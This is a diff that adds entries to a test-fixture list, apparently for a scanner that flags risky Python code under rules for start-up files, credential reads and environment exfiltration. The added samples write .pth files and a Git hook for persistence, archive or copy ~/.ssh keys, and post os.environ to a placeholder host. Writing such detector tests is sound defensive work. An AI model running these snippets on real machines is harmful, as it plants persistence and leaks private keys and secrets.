@@ -269,4 +269,50 @@ export const hiddenSiblings: readonly (readonly [way: string, rule: RuleId, code
     'command-at-import',
     'import os\nclass A:\n    def get(self):\n        return os.system\nA().get()("ls")',
   ],
+  [
+    'a path file in a folder of sysconfig',
+    'start-up-file',
+    'import sysconfig, os\nopen(os.path.join(sysconfig.get_paths()["purelib"], "a.pth"), "w").write("x")',
+  ],
+  [
+    'a path file in a path of sysconfig',
+    'start-up-file',
+    'import sysconfig\nfrom pathlib import Path\n(Path(sysconfig.get_path("purelib")) / "a.pth").write_text("x")',
+  ],
+  [
+    'a path file of the user',
+    'start-up-file',
+    'import site, os\nopen(os.path.join(site.USER_SITE, "a.pth"), "w").write("x")',
+  ],
+  ['a hook of Git', 'start-up-file', 'open(".git/hooks/post-merge", "w").write("x")'],
+  [
+    'keys in an archive',
+    'credentials-read',
+    'import tarfile, os\nt = tarfile.open("a.tgz", "w:gz")\nt.add(os.path.expanduser("~/.ssh"))',
+  ],
+  [
+    'keys in a zip',
+    'credentials-read',
+    'import zipfile, os\nwith zipfile.ZipFile("a.zip", "w") as z:\n    z.write(os.path.expanduser("~/.ssh/id_rsa"))',
+  ],
+  [
+    'a copy of keys',
+    'credentials-read',
+    'import shutil, os\nshutil.copytree(os.path.expanduser("~/.ssh"), "a")',
+  ],
+  [
+    'a list of keys',
+    'credentials-read',
+    'import os\nfor name in os.listdir(os.path.expanduser("~/.ssh")):\n    print(name)',
+  ],
+  [
+    'a stream',
+    'environment-sent',
+    'import httpx, os\nhttpx.stream("POST", "https://a.io", json=dict(os.environ))',
+  ],
+  [
+    'a web socket',
+    'environment-sent',
+    'import websocket, os\nws = websocket.WebSocket()\nws.send(str(dict(os.environ)))',
+  ],
 ];
